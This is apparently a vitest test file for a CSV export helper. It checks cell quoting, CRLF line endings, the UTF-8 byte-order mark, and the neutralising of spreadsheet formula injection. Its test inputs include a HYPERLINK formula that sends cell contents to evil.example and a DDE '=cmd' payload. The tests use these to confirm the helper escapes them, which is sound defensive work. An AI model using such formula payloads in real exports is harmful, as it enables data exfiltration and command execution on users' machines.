import { describe, expect, it } from 'vitest'
import { byteOrderMark, csvCell, csvRow } from './csv'

/** Reads CSV back as RFC 4180 says: quoted cells may hold commas, quotes and line breaks. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"'
        index++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') {
      row.push(cell)
      cell = ''
    } else if (char === '\r' && text[index + 1] === '\n') {
      rows.push([...row, cell])
      row = []
      cell = ''
      index++
    } else cell += char
  }
  return rows
}

describe('CSV cells', () => {
  it('leaves plain text alone and quotes commas, quotes and line breaks', () => {
    expect(csvCell('Riverside FC')).toBe('Riverside FC')
    expect(csvCell('Smith, Jane')).toBe('"Smith, Jane"')
    expect(csvCell('The "Eagles"')).toBe('"The ""Eagles"""')
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell(null)).toBe('')
    expect(csvCell(1200)).toBe('1200')
  })

  it('keeps anything a spreadsheet would run as a formula as text', () => {
    for (const formula of ['=1+1', '+44 20 7946 0000', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'])
      expect(csvCell(formula)).toMatch(/^"?'/)
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    )
    // Only the first character counts: a formula sign inside the text is harmless.
    expect(csvCell('a = b')).toBe('a = b')
  })

  it('ends every row with CRLF, and rows read back to the values written', () => {
    const values = [
      ['Reference', 'Name', 'Message'],
      ['SS-4F7K2QXM', 'José Muñoz', 'Shirts, "sublimated"\r\nby May'],
      ['SS-22222222', '=cmd|" /C calc"!A0', '@home'],
    ]
    const text = values.map(csvRow).join('')
    expect(text.endsWith("'@home\r\n")).toBe(true)
    // No bare LF ends a row.
    expect(text.replaceAll('\r\n', '')).not.toContain('\n')
    expect(parse(text)).toEqual([values[0], values[1], ['SS-22222222', `'=cmd|" /C calc"!A0`, "'@home"]])
  })

  it('starts a file with the byte-order mark that makes spreadsheets read UTF-8', () => {
    expect(Buffer.from(byteOrderMark, 'utf8')).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  })
})
